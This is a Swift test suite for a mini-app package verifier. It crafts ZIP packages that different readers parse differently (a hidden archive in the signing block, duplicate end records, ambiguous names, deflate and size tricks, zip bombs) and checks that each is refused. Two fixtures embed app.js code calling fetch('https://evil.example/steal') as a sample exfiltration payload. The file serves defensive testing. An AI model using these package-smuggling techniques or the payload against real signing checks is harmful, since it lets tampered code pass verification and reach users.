import Crypto
import Foundation
import Testing
@testable import MiniAppKit

/// Packages that one ZIP reader reads differently from another (`docs/package-readers.md`):
/// each must fail `verify` with the exact failure that names the shape and where it is.
struct ReaderDivergenceTests {
    typealias Entry = CraftedZip.Entry
    /// Where 'app.js' is in the minimal app's entries (manifest.json, app.css, app.js, ...).
    static let app = 2

    static func failures(_ bytes: [UInt8], requireSignature: Bool = false) -> [String] {
        PackageVerifier.verify(bytes, requireSignature: requireSignature).failureMessages
    }

    static func ids(_ bytes: [UInt8]) -> [String] {
        PackageVerifier.verify(bytes).failures.map(\.id)
    }

    static func minimalApp(adding extra: [Entry] = [], method: UInt16 = 8) -> CraftedZip {
        var zip = CraftedZip.minimalApp()
        for index in zip.entries.indices { zip.entries[index].method = method }
        zip.entries += extra
        return zip
    }

    /// Where each entry's local header starts, by name.
    static func offsets(_ bytes: [UInt8]) throws -> [String: Int] {
        Dictionary(uniqueKeysWithValues: try ZipLayout.read(bytes).entries.map { ($0.name, $0.localHeaderOffset) })
    }

    // MARK: - Baselines: what must pass

    @Test func theCraftedMinimalAppVerifiesUnsignedAndSigned() throws {
        let unsigned = Self.minimalApp().bytes()
        #expect(Self.failures(unsigned) == [])
        let signed = try SignedPackageSurgery.sign(unsigned)
        let report = PackageVerifier.verify(signed, requireSignature: true)
        #expect(report.failureMessages == [])
        #expect(report.signed && report.signatureVerified && !report.signerAuthenticated)
        let pinned = PackageVerifier.verify(
            signed, expected: ExpectedSigner(publicKey: SignedPackageSurgery.key.publicKeyDER), requireSignature: true)
        #expect(pinned.signed && pinned.signerAuthenticated)
    }

    @Test func harmlessExtraFieldsPass() throws {
        var zip = Self.minimalApp()
        // Info-ZIP's extended timestamp (0x5455) and Unix owner (0x7875), as `zip` writes them.
        zip.entries[Self.app].localExtra =
            u16(0x5455) + u16(5) + [1] + u32(0) + u16(0x7875) + u16(11) + [1, 4] + u32(1000) + [4] + u32(1000)
        zip.entries[Self.app].centralExtra = u16(0x5455) + u16(5) + [1] + u32(0)
        let signed = try SignedPackageSurgery.sign(zip.bytes())
        #expect(Self.failures(signed, requireSignature: true) == [])
    }

    // MARK: - A signing block holds one developer signature and nothing else

    /// A signed package whose block holds `pairs` after (or instead of) its developer signature,
    /// and where the first extra pair starts.
    static func signedPackage(extraPairs: [(UInt32, [UInt8])]) throws -> (bytes: [UInt8], extraPairOffset: Int) {
        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
        let value = try SignedPackageSurgery.developerValue(of: signed)
        let block = SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, value)] + extraPairs)
        let start = try ZipLayout.read(signed).entriesEnd
        return (try SignedPackageSurgery.replaceBlock(of: signed, with: block), start + 8 + 12 + value.count)
    }

    @Test func aPaddingPairIsRefusedEvenWhenItIsZeros() throws {
        // Anyone can add or remove one: the same signature would cover packages with two SHA-256s.
        for padding in [[UInt8](repeating: 0, count: 40), [0], [UInt8](repeating: 0, count: 4096 - 12)] {
            let (padded, offset) = try Self.signedPackage(extraPairs: [(SigningBlock.paddingID, padding)])
            #expect(
                Self.failures(padded, requireSignature: true) == [
                    "the signing block holds a padding pair (0x42726577) of \(padding.count) bytes at offset \(offset); a package's block holds the developer signature alone, because any other pair can be added by anyone, or carry bytes no check reads"
                ])
        }
    }

    @Test func anUnknownPairIsRefusedWhateverItCarries() throws {
        for (id, value) in [
            (UInt32(0x1337_0001), Array("any bytes at all".utf8)), (0x0100_0102, [UInt8](repeating: 0xAA, count: 300)), (0, []),
        ] {
            let (attacked, offset) = try Self.signedPackage(extraPairs: [(id, value)])
            #expect(
                Self.failures(attacked) == [
                    "the signing block holds an unknown pair 0x\(String(id, radix: 16, uppercase: true)) of \(value.count) bytes at offset \(offset); a package's block holds the developer signature alone, because any other pair can be added by anyone, or carry bytes no check reads"
                ])
            #expect(Self.ids(attacked) == ["signature-block"])
        }
    }

    @Test func aSecondDeveloperSignaturePairIsRefused() throws {
        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
        let value = try SignedPackageSurgery.developerValue(of: signed)
        let (twice, _) = try Self.signedPackage(extraPairs: [(SigningBlock.developerSignatureID, value)])
        #expect(Self.failures(twice) == ["the signing block has 2 developer signatures; a package has one"])
    }

    // MARK: - A second archive hidden in the signing block

    /// The first attack's shape: an unknown pair carries a local header, a central directory
    /// and an end record. The digest does not cover the block, so the signature still verifies.
    static func packageWithHiddenArchive() throws -> (bytes: [UInt8], pairOffset: Int, pairSize: Int) {
        var hidden = Self.minimalApp()
        hidden.entries[Self.app] = Entry("app.js", "fetch('https://evil.example/steal')\n")
        let hiddenBytes = hidden.bytes()
        let (attacked, offset) = try Self.signedPackage(extraPairs: [(0x1337_0001, hiddenBytes)])
        return (attacked, offset, hiddenBytes.count)
    }

    @Test func aHiddenCentralDirectoryInAnUnknownPairIsRefused() throws {
        let (attacked, pairOffset, pairSize) = try Self.packageWithHiddenArchive()
        // Found by the search for hidden structure before the block is even parsed.
        #expect(
            Self.failures(attacked) == [
                "an end-record signature at offset \(pairOffset + 12 + pairSize - 22), inside the signing block; a package has one end record only, and a second one is read by some readers and not others"
            ])
        #expect(Self.ids(attacked) == ["archive-hidden-structure"])
    }

    @Test func aHiddenCentralDirectoryWithAnEndRecordCommentIsRefused() throws {
        var (attacked, _, _) = try Self.packageWithHiddenArchive()
        let end = attacked.count - 22
        let comment = Array("a comment that hides nothing yet".utf8)
        attacked[end + 20] = UInt8(comment.count)
        attacked += comment
        #expect(
            Self.failures(attacked) == [
                "the end record at offset \(end) has a \(comment.count)-byte comment; a package has none, because a comment can hide a second end record that other readers take"
            ])
    }

    /// An archive carried as the last entry's data, with absolute offsets and an end-record
    /// comment that runs to the end of the file: libzip weighs every end record it finds in
    /// the last 64 KiB, and keeps the first of two equally consistent ones.
    @Test func anArchiveHiddenInEntryDataWithOffsetsIntoThePackageIsRefused() throws {
        func outer(carrying hidden: [UInt8]) -> [UInt8] {
            Self.minimalApp(adding: [Entry(rawName: Array("assets/x.bin".utf8), content: hidden)]).bytes()
        }
        var hidden = Self.minimalApp()
        hidden.entries[Self.app] = Entry("app.js", "fetch('https://evil.example/steal')\n")
        let placeholder = outer(carrying: hidden.bytes())
        let carrier = try #require(try ZipLayout.read(placeholder).entries.last)
        hidden.baseOffset = carrier.dataOffset
        var hiddenBytes = hidden.bytes()
        let tail = placeholder.count - (carrier.dataOffset + hiddenBytes.count)
        hiddenBytes[hiddenBytes.count - 2] = UInt8(tail & 0xFF)
        hiddenBytes[hiddenBytes.count - 1] = UInt8(tail >> 8)
        let attacked = outer(carrying: hiddenBytes)
        #expect(attacked.count == placeholder.count)
        // Its end record points at a central directory in this very file: a reader could take it.
        #expect(
            Self.failures(attacked) == [
                "an end record at offset \(carrier.dataOffset + hiddenBytes.count - 22), inside the entries, points at a central directory in this file; libzip can take it for the package's own"
            ])
        // An archive carried as an asset with its own offsets is data, and passes.
        #expect(Self.failures(outer(carrying: CraftedZip.minimalApp().bytes())) == [])
    }

    @Test func aSecondEndRecordInTheCommentIsRefused() throws {
        var zip = Self.minimalApp()
        let honest = zip.bytes()
        let layout = try ZipLayout.read(honest)
        let directorySize = layout.endRecordOffset - layout.centralDirectoryOffset
        // The fake end record, last in the file, claims a directory that runs up to it:
        // minizip-ng takes it (the last one); a reader that checks the comment takes the first.
        zip.comment =
            u32(0x0605_4B50) + u16(0) + u16(0) + u16(6) + u16(6) + u32(UInt32(directorySize + 22))
            + u32(UInt32(layout.centralDirectoryOffset)) + u16(0)
        #expect(
            Self.failures(zip.bytes()) == [
                "an end-record signature at offset \(layout.endRecordOffset), inside the central directory; a package has one end record only, and a second one is read by some readers and not others"
            ])
    }

    @Test func aNeedlessZip64LocatorIsRefused() throws {
        var zip = Self.minimalApp()
        let layout = try ZipLayout.read(zip.bytes())
        let directorySize = layout.endRecordOffset - layout.centralDirectoryOffset
        let record =
            u32(0x0606_4B50) + u64(44) + u16(45) + u16(45) + u32(0) + u32(0) + u64(6) + u64(6)
            + u64(UInt64(directorySize)) + u64(UInt64(layout.centralDirectoryOffset))
        let locator = u32(0x0706_4B50) + u32(0) + u64(UInt64(layout.endRecordOffset)) + u32(1)
        zip.insideDirectory = record + locator
        #expect(
            Self.failures(zip.bytes()) == [
                "a ZIP64 end-record signature at offset \(layout.endRecordOffset), inside the central directory; a package has one end record only, and a second one is read by some readers and not others"
            ])
    }

    @Test func zip64MarkersInTheEndRecordAreRefused() throws {
        var zip = Self.minimalApp()
        zip.declaredCount = 0xFFFF
        let bytes = zip.bytes()
        #expect(
            Self.failures(bytes) == [
                "the end record at offset \(bytes.count - 22) holds a ZIP64 marker (0xFFFF or 0xFFFFFFFF); MiniApp packages do not use ZIP64, and only some readers follow it"
            ])
    }

    @Test func aCountThatDisagreesWithTheWalkIsRefused() throws {
        var zip = Self.minimalApp()
        zip.declaredCount = 5
        #expect(
            Self.failures(zip.bytes()) == [
                "the end record counts 5 entries but the central directory holds 6; readers that trust the count and readers that walk the directory would see different files"
            ])
    }

    // MARK: - Names

    @Test func unicodePathNamesAreRefused() throws {
        var zip = Self.minimalApp()
        let name = Array("app.js".utf8)
        zip.entries[Self.app].centralExtra = u16(0x7075) + u16(UInt16(5 + 7)) + [1] + u32(CraftedZip.crc32(name)) + Array("evil.js".utf8)
        let bytes = zip.bytes()
        let layout = try ZipLayout.read(bytes)
        let app = try #require(layout.entries.first { $0.name == "app.js" })
        #expect(
            Self.failures(bytes) == [
                "the central header of entry 'app.js' has an Info-ZIP Unicode Path field (0x7075), which gives the entry a second name that the runtime's reader ignores, at offset \(app.centralExtra.lowerBound)"
            ])
    }

    @Test func dotAndEmptySegmentsAreRefused() throws {
        let bytes = Self.minimalApp(adding: [
            Entry("./app.js", "evil()\n"), Entry("pages//index/index.js", "evil()\n"), Entry("assets/", "data"), Entry("pages/", ""),
        ]).bytes()
        let at = try Self.offsets(bytes)
        #expect(
            Self.failures(bytes) == [
                "entry './app.js' at offset \(at["./app.js"]!) contains a '.' segment; extracted, it lands on the same file as the name without it",
                "entry 'pages//index/index.js' at offset \(at["pages//index/index.js"]!) contains an empty segment ('//'); extracted, it lands on the same file as the name with one '/'",
                "entry 'assets/' is named as a directory but holds 4 bytes",
            ])
        // An empty directory entry, as `zip -r` writes one, passes.
        #expect(Self.failures(Self.minimalApp(adding: [Entry("pages/", "")]).bytes()) == [])
    }

    @Test func controlCharactersAndBadEncodingsInNamesAreRefused() throws {
        var nonASCII = Entry("caf\u{E9}.txt", "x")
        nonASCII.flags = 0  // not flagged as UTF-8
        let bytes = Self.minimalApp(adding: [
            Entry(rawName: Array("app.js".utf8) + [0] + Array("evil".utf8), content: Array("x".utf8)),
            Entry(rawName: Array("a\tb.txt".utf8), content: Array("x".utf8)),
            nonASCII,
            Entry(rawName: [0x61, 0xFF, 0x2E, 0x6A, 0x73], content: Array("x".utf8)),
        ]).bytes()
        let layout = try ZipLayout.read(bytes)
        let at = layout.entries.map(\.localHeaderOffset).suffix(4).map { $0 }
        #expect(
            Self.failures(bytes) == [
                "entry 'app.js\\u{0}evil' at offset \(at[0]) contains a NUL byte at byte 6 of its name; the runtime's reader cuts the name there and libzip reads a space",
                "entry 'a\\u{9}b.txt' at offset \(at[1]) contains the control character 0x09",
                "entry 'café.txt' at offset \(at[2]) is not ASCII and is not flagged as UTF-8 (general-purpose bit 11), so Python's zipfile and unzip decode it as CP437 and read another name",
                "entry 'a\u{FFFD}.js' at offset \(at[3]) is not valid UTF-8",
            ])
    }

    @Test func namesEqualAfterCaseFoldingOrNormalizationAreRefused() throws {
        var composed = Entry("caf\u{E9}.txt", "a")
        composed.flags = 0x0800
        var decomposed = Entry("cafe\u{301}.txt", "b")
        decomposed.flags = 0x0800
        let bytes = Self.minimalApp(adding: [Entry("App.js", "evil()\n"), composed, decomposed]).bytes()
        let layout = try ZipLayout.read(bytes)
        let at = layout.entries.map(\.localHeaderOffset)
        #expect(
            Self.failures(bytes) == [
                "entry 'App.js' at offset \(at[6]) and entry 'app.js' are the same file after Unicode normalization or case folding",
                "entry 'cafe\u{301}.txt' at offset \(at[8]) and entry 'caf\u{E9}.txt' are the same file after Unicode normalization or case folding",
            ])
        #expect(Set(Self.ids(bytes)) == ["archive-duplicate-name"])
    }

    @Test func theWriterRefusesNamesVerifyWouldRefuse() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("mactl-names-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let destination = folder.appendingPathComponent("app.ma")
        func refusal(_ paths: [String]) -> String? {
            do throws(ArchiveError) {
                try ArchiveWriter.write(
                    paths.map { ArchiveEntry(path: $0, bytes: [1], method: .store) }, to: destination, timestamp: .fixed)
                return nil
            } catch {
                return error.message
            }
        }
        #expect(
            refusal(["manifest.json", "a/./b.js"])
                == "'a/./b.js' cannot be a package entry: it contains a '.' segment; extracted, it lands on the same file as the name without it"
        )
        #expect(
            refusal(["manifest.json", "Icons/a.svg", "icons/a.svg"])
                == "'icons/a.svg' and 'Icons/a.svg' are the same file after Unicode normalization or case folding; rename one")
        #expect(!FileManager.default.fileExists(atPath: destination.path))
    }

    // MARK: - Data that does not end where the archive says

    @Test func aDeflateStreamPastItsCompressedSizeIsRefused() throws {
        var zip = Self.minimalApp()
        let stream = CraftedZip.deflate(zip.entries[Self.app].content)
        zip.entries[Self.app].data = Array(stream.dropLast(3))
        let bytes = zip.bytes()
        let app = try #require(try ZipLayout.read(bytes).entries.first { $0.name == "app.js" })
        #expect(
            Self.failures(bytes) == [
                "the deflate stream of entry 'app.js' (data at offset \(app.dataOffset)) does not end within its \(stream.count - 3) compressed bytes; the runtime's reader would read on into the bytes that follow"
            ])
    }

    @Test func aDeflateStreamThatEndsEarlyOrInflatesShortIsRefused() throws {
        var early = Self.minimalApp()
        early.entries[Self.app].data = CraftedZip.deflate(early.entries[Self.app].content) + [0, 0, 0]
        let earlyBytes = early.bytes()
        let app = try #require(try ZipLayout.read(earlyBytes).entries.first { $0.name == "app.js" })
        #expect(
            Self.failures(earlyBytes) == [
                "the deflate stream of entry 'app.js' (data at offset \(app.dataOffset)) ends 3 bytes before its compressed size of \(app.compressedSize)"
            ])
        var short = Self.minimalApp()
        let size = short.entries[Self.app].content.count
        short.entries[Self.app].size = UInt32(size + 10)
        let shortBytes = short.bytes()
        #expect(
            Self.failures(shortBytes) == [
                "entry 'app.js' (data at offset \(app.dataOffset)) inflates to \(size) bytes, not the \(size + 10) it declares"
            ])
    }

    @Test func aStoredEntryWhoseSizesDifferOrWhoseCRCIsWrongIsRefused() throws {
        var sizes = Self.minimalApp(method: 0)
        let size = sizes.entries[Self.app].content.count
        sizes.entries[Self.app].size = UInt32(size + 1)
        #expect(Self.failures(sizes.bytes()) == ["entry 'app.js' is stored but its compressed size \(size) is not its size \(size + 1)"])
        var crc = Self.minimalApp()
        crc.entries[Self.app].crc = 0xDEAD_BEEF
        let real = Hex.crc(CraftedZip.crc32(crc.entries[Self.app].content))
        #expect(Self.failures(crc.bytes()) == ["entry 'app.js' has CRC-32 \(real) but its headers say deadbeef"])
    }

    @Test func aLocalHeaderThatDisagreesWithItsCentralHeaderIsRefused() throws {
        var zip = Self.minimalApp()
        zip.entries[Self.app].localName = Array("app.jz".utf8)
        let bytes = zip.bytes()
        let offset = try Self.offsets(Self.minimalApp().bytes())["app.js"]!
        #expect(
            Self.failures(bytes) == [
                "the local header of entry 'app.js' at offset \(offset) disagrees with its central header: name 'app.jz'"
            ])
    }

    @Test func aVersionNeededOver2Point0IsRefused() throws {
        // Found by the differential test: Python's zipfile and unzip refuse such an entry.
        let bytes = Self.minimalApp().bytes()
        var mutant = bytes
        let app = try ZipLayout.read(bytes).entries[Self.app]
        mutant[app.centralHeaderOffset + 6] = 63
        #expect(
            Self.failures(mutant) == [
                "entry 'app.js' needs version 6.3 of the ZIP format to extract; packages need 2.0 at most, and readers that lack a version refuse the entry"
            ])
    }

    @Test func dataDescriptorsAndEncryptionAreRefused() throws {
        var descriptor = Self.minimalApp()
        descriptor.entries[Self.app].flags = 0x0008
        let directory = try ZipLayout.read(Self.minimalApp().bytes()).entries[Self.app].centralHeaderOffset
        #expect(
            Self.failures(descriptor.bytes()) == [
                "entry 'app.js' (central header at offset \(directory)) uses a data descriptor (flag bit 3); packages give sizes and CRC in both headers"
            ])
        var encrypted = Self.minimalApp()
        encrypted.entries[Self.app].flags = 0x0001
        #expect(Self.failures(encrypted.bytes()) == ["entry 'app.js' is encrypted; MiniApp packages must not use ZIP encryption"])
    }

    @Test func bytesBetweenEntriesAreRefused() throws {
        var zip = Self.minimalApp(method: 0)
        zip.entries[0].data = zip.entries[0].content + Array("hidden".utf8)
        zip.entries[0].compressedSize = UInt32(zip.entries[0].content.count)
        let end = zip.entries[0].content.count + 30 + "manifest.json".utf8.count
        #expect(Self.failures(zip.bytes()) == ["6 bytes at offset \(end) after entry 'manifest.json' belong to no entry"])
    }

    // MARK: - The signed region

    @Test func aGapBeforeTheSigningBlockIsRefused() throws {
        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
        let entriesEnd = try ZipLayout.read(signed).entriesEnd
        let attacked = try SignedPackageSurgery.insert([UInt8](repeating: 0, count: 7), at: entriesEnd, into: signed)
        #expect(
            Self.failures(attacked) == [
                "7 bytes at offset \(entriesEnd), between the last entry and the signing block, belong to no structure"
            ])
    }

    @Test func entryDataRunningIntoTheSigningBlockIsRefused() throws {
        // Stored entries, so the last one's sizes can be stretched over the block's first bytes,
        // with a CRC that matches what a reader then reads: only the layout gives it away.
        var signed = try SignedPackageSurgery.sign(Self.minimalApp(method: 0).bytes())
        let layout = try ZipLayout.read(signed)
        let last = try #require(layout.entries.max { $0.dataEnd < $1.dataEnd })
        let stretched = UInt32(last.compressedSize + 16)
        let crc = u32(CraftedZip.crc32(Array(signed[last.dataOffset..<(last.dataEnd + 16)])))
        for (header, fieldOffset) in [(last.localHeaderOffset, 14), (last.centralHeaderOffset, 16)] {
            for index in 0..<4 {
                signed[header + fieldOffset + index] = crc[index]
                signed[header + fieldOffset + 4 + index] = u32(stretched)[index]
                signed[header + fieldOffset + 8 + index] = u32(stretched)[index]
            }
        }
        #expect(
            Self.failures(signed) == [
                "the data of entry '\(last.name)' runs 16 bytes into the signing block at offset \(layout.entriesEnd), where the signed entries end"
            ])
    }

    @Test func trailingBytesInsideOrAfterTheSignerAreRefused() throws {
        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
        let value = try SignedPackageSurgery.developerValue(of: signed)
        let signer = try SigningBlock.signer(in: value[...])
        let signatures = SigningBlock.lengthPrefixed(
            SigningBlock.lengthPrefixed(u32(signer.algorithm) + SigningBlock.lengthPrefixed(signer.signature)))
        let signerBytes = SigningBlock.lengthPrefixed(signer.signedData) + signatures + SigningBlock.lengthPrefixed(signer.publicKey)
        let entriesEnd = try ZipLayout.read(signed).entriesEnd
        // The value starts after the block's size (8), the pair's size (8) and its id (4).
        let valueOffset = entriesEnd + 20

        let inside = SigningBlock.lengthPrefixed(SigningBlock.lengthPrefixed(signerBytes + [1, 2, 3]))
        let insideAttack = try SignedPackageSurgery.replaceBlock(
            of: signed, with: SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, inside)]))
        #expect(
            Self.failures(insideAttack) == [
                "3 trailing bytes at offset \(valueOffset + 8 + signerBytes.count) in the signer, after its public key"
            ])

        let after = SigningBlock.lengthPrefixed(SigningBlock.lengthPrefixed(signerBytes)) + [9, 9]
        let afterAttack = try SignedPackageSurgery.replaceBlock(
            of: signed, with: SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, after)]))
        #expect(
            Self.failures(afterAttack) == [
                "2 trailing bytes at offset \(valueOffset + 8 + signerBytes.count) in the developer signature, after its signer sequence"
            ])
    }

    @Test func aFailedSignatureIsNeverReportedAsSigned() throws {
        var signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
        let layout = try ZipLayout.read(signed)
        // A byte of the signature, which sits before the public key (91 bytes of DER and its
        // length) and the block's trailing size and magic (24 bytes).
        signed[layout.centralDirectoryOffset - 24 - 95 - 2] ^= 0xFF
        let report = PackageVerifier.verify(signed)
        #expect(!report.passed && !report.signed && !report.signatureVerified)
        #expect(report.publicKeyDigest == Hex.string(SHA256Digest.of(SignedPackageSurgery.key.publicKeyDER)))
        #expect(report.certificateSubject == "CN=org.example.demo")
    }

    // MARK: - Hostile numbers

    @Test func zip64SizesAreRefusedWithoutATrap() throws {
        var zip = Self.minimalApp()
        zip.entries[Self.app].size = 0xFFFF_FFFF
        zip.entries[Self.app].compressedSize = 0xFFFF_FFFF
        let huge = u16(0x0001) + u16(16) + u64(1 << 63) + u64(1 << 63)
        zip.entries[Self.app].localExtra = huge
        zip.entries[Self.app].centralExtra = huge
        let bytes = zip.bytes()
        // The local ZIP64 field moves the central directory by its size.
        let directory = try ZipLayout.read(Self.minimalApp().bytes()).entries[Self.app].centralHeaderOffset + huge.count
        #expect(
            Self.failures(bytes) == [
                "entry 'app.js' (central header at offset \(directory)) holds a ZIP64 marker (0xFFFFFFFF); MiniApp packages do not use ZIP64, and readers differ in how they read it"
            ])
        // The same archive as data inside a package: libzip reads sizes of 2^63, which must not trap.
        let nested = Self.minimalApp(adding: [Entry(rawName: Array("assets/data.zip".utf8), content: bytes)]).bytes()
        let failures = Self.failures(nested)
        #expect(failures.count == 1)
        #expect(failures.first?.hasPrefix("entry 'assets/data.zip' is an archive mactl cannot look into (") == true)
        #expect(PackageSummary.inspectFails(bytes))
    }

    @Test func declaredSizesOverThePackageLimitAreRefusedBeforeInflating() throws {
        // Nine entries declaring 64 MiB each from 400 KB: each under the ratio limit, the sum over.
        var random = SystemRandomNumberGenerator()
        let chunk = (0..<400_000).map { _ in UInt8.random(in: 0...255, using: &random) }
        var zip = Self.minimalApp()
        for index in 0..<9 {
            var entry = Entry(rawName: Array("assets/big\(index).bin".utf8), content: chunk, method: 0)
            entry.method = 8
            entry.data = chunk
            entry.size = 64 * 1024 * 1024
            zip.entries.append(entry)
        }
        let declared = 9 * 64 * 1024 * 1024 + MinimalApp.files.values.reduce(0) { $0 + $1.utf8.count }
        #expect(
            Self.failures(zip.bytes()) == [
                "the entries declare \(declared) bytes in all, over the limit of \(Limits.packageUncompressedSize) bytes for a whole package (a zip bomb?)"
            ])
    }

    @Test func aPrefixedArchiveOfArchivesIsFoundByItsEndRecord() throws {
        let inner = CraftedZip(entries: [Entry(rawName: Array("a.txt".utf8), content: Array("x".utf8))]).bytes()
        let middle = CraftedZip(entries: [Entry(rawName: Array("inner.zip".utf8), content: inner)]).bytes()
        let prefixed = Array("MZ a self-extractor stub\n".utf8) + middle
        let bytes = Self.minimalApp(adding: [Entry(rawName: Array("assets/data.bin".utf8), content: prefixed)]).bytes()
        #expect(
            Self.failures(bytes) == [
                "entry 'assets/data.bin' is an archive that holds archives; a package may carry a ZIP file as data, but nested archives are how recursive zip bombs pass one-level checks"
            ])
        // One archive as data is still allowed, prefixed or not.
        let single = Self.minimalApp(adding: [Entry(rawName: Array("assets/data.bin".utf8), content: Array("stub".utf8) + inner)]).bytes()
        #expect(Self.failures(single) == [])
    }

    @Test func aFileOverThePackageLimitIsRefusedBeforeItIsRead() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("mactl-sparse-\(UUID().uuidString).ma")
        #expect(FileManager.default.createFile(atPath: url.path, contents: nil))
        defer { try? FileManager.default.removeItem(at: url) }
        #expect(truncate(url.path, 1 << 30) == 0)
        #expect(throws: PackageFile.Failure.self) { try PackageFile.read(url.path) }
        do throws(PackageFile.Failure) {
            _ = try PackageFile.read(url.path)
        } catch {
            guard case .refused(let failure) = error else { Issue.record("not refused: \(error)"); return }
            #expect(
                failure
                    == VerificationFailure(
                        "archive-too-large",
                        "the package is 1073741824 bytes, over the limit of 268435456 bytes for a package; nothing was read"))
        }
    }
}

extension PackageSummary {
    static func inspectFails(_ bytes: [UInt8]) -> Bool {
        (try? inspect(bytes)) == nil
    }
}

enum SHA256Digest {
    static func of(_ bytes: [UInt8]) -> [UInt8] {
        Array(Crypto.SHA256.hash(data: bytes))
    }
}
